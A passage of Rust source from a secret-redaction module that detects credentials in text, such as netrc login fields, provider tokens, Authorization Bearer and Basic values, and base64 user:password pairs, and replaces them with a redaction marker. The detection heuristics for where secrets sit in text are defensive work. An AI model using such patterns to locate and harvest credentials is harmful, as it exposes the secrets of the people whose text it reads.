        while start > floor && !space(bytes[start - 1]) {
            start -= 1;
        }
        let word = text.get(start..end)?;
        (!word.is_empty()).then_some((start, word.trim_start_matches(['"', '\''])))
    };
    let mut end = at;
    for _ in 0..3 {
        let Some((value_start, value)) = word_before(end) else {
            return false;
        };
        if value.eq_ignore_ascii_case("default") {
            return true;
        }
        let Some((keyword_start, keyword)) = word_before(value_start) else {
            return false;
        };
        if keyword.eq_ignore_ascii_case("machine") {
            return true;
        }
        if !keyword.eq_ignore_ascii_case("login") && !keyword.eq_ignore_ascii_case("account") {
            return false;
        }
        end = keyword_start;
    }
    false
}

/// A provider token: the match, adjusted by its shape.
fn provider(provider: &Provider, text: &str, m: Range<usize>, found: &mut Found) {
    let bytes = text.as_bytes();
    match provider.shape {
        Shape::Token => found.secret(text, m.start, m),
        Shape::AfterSlash(n) => {
            let Some((slash, _)) = text[m.clone()].match_indices('/').nth(n - 1) else {
                return;
            };
            found.secret(text, m.start, m.start + slash + 1..m.end);
        }
        Shape::Before { min, max, digits } => {
            let fits = |b: u8| {
                if digits {
                    b.is_ascii_digit()
                } else {
                    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'~' | b'.')
                }
            };
            let mut start = m.start;
            while start > 0 && m.start - start < max && fits(bytes[start - 1]) {
                start -= 1;
            }
            // Digits may follow a word (`…/bot123456789:AA…`): the `:A…`
            // tail is distinctive enough.
            let before_is_word = !digits && start > 0 && is_word_byte(bytes[start - 1]);
            if m.start - start < min || before_is_word {
                return;
            }
            found.secret(text, start, start..m.end);
        }
    }
}

/// The start and the matched listed name of the secret name ending at
/// `name_end`, whose last word starts at `word_start`: the identifier
/// characters (`[A-Za-z0-9_.-]`) before it, then up to two more words
/// separated by single spaces or tabs (`API key`).
fn secret_name_before(
    text: &str,
    word_start: usize,
    name_end: usize,
) -> Option<(usize, &'static str)> {
    let bytes = text.as_bytes();
    let floor = name_end.saturating_sub(MAX_NAME_BYTES);
    let ident = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-');
    let mut start = word_start;
    while start > floor && ident(bytes[start - 1]) {
        start -= 1;
    }
    // `$PWD:/src`, `${TOKEN:-x}`: a variable read, not an assignment.
    if text[..start].ends_with('$') || text[..start].ends_with("${") {
        return None;
    }
    for extra_words in 0..3 {
        if extra_words > 0 {
            // One more word to the left, across one space or tab.
            if start < 2 || !matches!(bytes[start - 1], b' ' | b'\t') {
                return None;
            }
            let mut earlier = start - 1;
            while earlier > floor && ident(bytes[earlier - 1]) {
                earlier -= 1;
            }
            if earlier == start - 1 {
                return None;
            }
            start = earlier;
        }
        if let Some(name) = secret_name(&text[start..name_end]) {
            return Some((start, name));
        }
    }
    None
}

/// A value after an operator or a flag.
struct Value {
    /// What may be replaced: inside the quotes, or the unquoted word.
    inner: Range<usize>,
    /// Where the construct ends (after a closing quote).
    outer_end: usize,
    quoted: bool,
}

/// Where an `Authorization` value's credentials start: after the scheme
/// (RFC 9110: `auth-scheme [ 1*SP ( token68 / #auth-param ) ]` — a first
/// word followed by spaces and more), else at the value's start.
fn after_scheme(text: &str, value: Range<usize>) -> usize {
    let v = &text[value.clone()];
    let word_len = v
        .bytes()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
        .count();
    let rest = &v[word_len..];
    let spaced = rest.trim_start_matches([' ', '\t']);
    if word_len > 0 && spaced.len() < rest.len() && !spaced.is_empty() {
        value.end - spaced.len()
    } else {
        value.start
    }
}

/// Whether the word after `Bearer`/`Basic` is a credential rather than
/// prose: 8+ characters with a digit or a symbol or two inner capitals
/// (`dXNlcjpwYXNz`, not `JavaScript`), or 16+ characters. Shortening a word
/// never turns it into a credential, so a clipped output reads the same.
fn looks_like_credential(word: &str) -> bool {
    let n = word.len();
    let bytes = word.as_bytes();
    let symbol = bytes.iter().any(|b| !b.is_ascii_alphabetic());
    let inner_capitals = bytes
        .windows(2)
        .filter(|w| w[0].is_ascii_lowercase() && w[1].is_ascii_uppercase())
        .count();
    n >= 16 || (n >= 8 && (symbol || inner_capitals >= 2))
}

/// Whether the word after `Basic` is Basic credentials however short
/// (`Basic YTpi` is `a:b`): the longest prefix of whole base64 groups
/// decodes to a user of printable ASCII followed by `:`. A prefix of a word
/// decodes to a prefix of its bytes, so, as above, shortening a word never
/// makes it credentials.
fn decodes_to_user_password(word: &str) -> bool {
    /// Standard base64, padding optional, unused bits ignored: a decoding
    /// that never fails on a word whose prefix decodes.
    const LENIENT_BASE64: GeneralPurpose = GeneralPurpose::new(
        &alphabet::STANDARD,
        GeneralPurposeConfig::new()
            .with_decode_allow_trailing_bits(true)
            .with_decode_padding_mode(DecodePaddingMode::Indifferent),
    );
    let whole_groups = &word[..word.len() / 4 * 4];
    let Ok(bytes) = LENIENT_BASE64.decode(whole_groups) else {
        return false;
    };
    match bytes.iter().position(|&b| b == b':') {
        Some(colon) => colon > 0 && bytes[..colon].iter().all(|b| (0x21..0x7f).contains(b)),
        None => false,
    }
}

fn is_ident_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-')
}

fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

impl Found {
    /// A secret that is its whole construct from `context`.
    fn secret(&mut self, text: &str, context: usize, span: Range<usize>) {
        let span = extend_to_word_end(text, span);
        self.guards.push(context.min(span.start)..span.end);
        if !span.is_empty() {
            self.spans.push(span);
        }
    }

    /// A literal secret from `from` to the end of `text` (an argv array's
    /// value: nothing in it is expanded, so all of it goes).
    pub(super) fn literal_to_end(&mut self, text: &str, from: usize) {
        if from < text.len() {
            self.spans.push(from..text.len());
            self.guards.push(0..text.len());
        }
    }
}

impl Found {
    /// Whether replacing the spans may change how the rest of the text reads
    /// (they hold a quote, a backtick, a backslash or a parenthesis that may
    /// belong to a construct around them — or, when a command line was read,
    /// a space or an operator that ends its words), so that a second pass
    /// must confirm the result.
    ///
    /// Also when constructs meet in a way a second pass may read
    /// differently: a construct's guard starting or ending strictly inside a
    /// replaced span (a private key running over a value's closing quote, an
    /// assignment inside another's value), or a span inside a construct that
    /// replaced nothing (a `Cookie:` inside the URL after `-u`). Nesting
    /// that ends together (`Authorization: Bearer <JWT>`) is not such a
    /// meeting.
    pub(super) fn may_unsettle(&self, text: &str) -> bool {
        let structural = self.spans.iter().any(|span| {
            text[span.clone()].bytes().any(|b| {
                matches!(b, b'"' | b'\'' | b'`' | b'\\' | b'(' | b')')
                    || (self.command_lines
                        && matches!(b, b';' | b'&' | b'|' | b'\n' | b'\r' | b' ' | b'\t'))
            })
        });
        if structural {
            return true;
        }
        let merged = Merged::of(&self.spans).0;
        let strictly_inside = |p: usize| {
            let i = merged.partition_point(|r| r.start < p);
            i > 0 && p < merged[i - 1].end
        };
        let overlaps = |g: &Range<usize>| {
            let i = merged.partition_point(|r| r.end <= g.start);
            merged.get(i).is_some_and(|r| r.start < g.end)
        };
        self.guards
            .iter()
            .any(|g| strictly_inside(g.start) || strictly_inside(g.end))
            || self.kept.iter().any(overlaps)
    }
}

/// `span`, run on to the end of the ASCII word it ends in.
fn extend_to_word_end(text: &str, span: Range<usize>) -> Range<usize> {
    let bytes = text.as_bytes();
    let mut end = span.end;
    if end > span.start && is_word_byte(bytes[end - 1]) {
        while end < bytes.len() && is_word_byte(bytes[end]) {
            end += 1;
        }
    }
    span.start..end
}

/// `text` with `found`'s spans (merged where they overlap or touch) replaced
/// by [`REDACTED`], and its guards mapped onto the output.
pub(super) fn apply(text: &str, found: &Found) -> Applied {
    let mut spans = found.spans.clone();
    spans.sort_unstable_by_key(|s| s.start);
    let mut merged: Vec<Range<usize>> = Vec::with_capacity(spans.len());
    for span in spans {
        match merged.last_mut() {
            Some(last) if span.start <= last.end => last.end = last.end.max(span.end),
            _ => merged.push(span),
        }
    }
    let mut out = String::with_capacity(text.len());
    // (input start, input end, output start) of each replaced span.
    let mut placed = Vec::with_capacity(merged.len());
    let mut copied = 0;
    for span in &merged {
        out.push_str(&text[copied..span.start]);
        placed.push((span.start, span.end, out.len()));
        out.push_str(REDACTED);
        copied = span.end;
    }
    out.push_str(&text[copied..]);
    let map = |p: usize, is_end: bool| -> usize {
        let i = placed.partition_point(|&(start, _, _)| start < p);
        match i.checked_sub(1).map(|i| placed[i]) {
            None => p,
            Some((_, end, out_start)) if p < end => {
                if is_end {
                    out_start + REDACTED.len()
                } else {
                    out_start
                }
            }
            Some((_, end, out_start)) => out_start + REDACTED.len() + (p - end),
        }
    };
    let guards = found
        .guards
        .iter()
        .map(|g| map(g.start, false)..map(g.end, true))
        .collect();
    Applied { text: out, guards }
}

#[cfg(test)]
mod tests;
